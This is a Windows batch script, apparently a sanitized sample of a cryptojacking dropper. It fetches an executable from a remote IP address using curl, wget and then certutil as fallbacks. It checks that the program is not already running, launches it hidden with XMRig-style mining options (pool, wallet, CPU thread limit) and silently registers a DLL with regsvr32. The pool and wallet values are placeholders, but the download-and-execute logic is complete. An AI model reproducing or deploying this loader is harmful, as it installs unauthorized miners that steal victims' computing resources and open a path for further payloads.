@echo off
curl http://198.51.100.32/download/sample_extension.exe -o sample_extension.exe
if not exist sample_extension.exe (
  wget http://198.51.100.32/download/sample_extension.exe -O sample_extension.exe
)
if not exist sample_extension.exe (
  certutil.exe -urlcache -f http://198.51.100.32/download/sample_extension.exe sample_extension.exe
)
set exe_1=sample_extension.exe
set "count_1=0"
>tasklist.temp (
tasklist /NH /FI "IMAGENAME eq %exe_1%"
)
for /f %%x in (tasklist.temp) do (
if "%%x" EQU "%exe_1%" set /a count_1+=1
)
if %count_1% EQU 0 (start /B .\sample_extension.exe -k --tls --rig-id q -o pool.invalid:443 -u not-a-wallet --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s create.dll)
del tasklist.temp
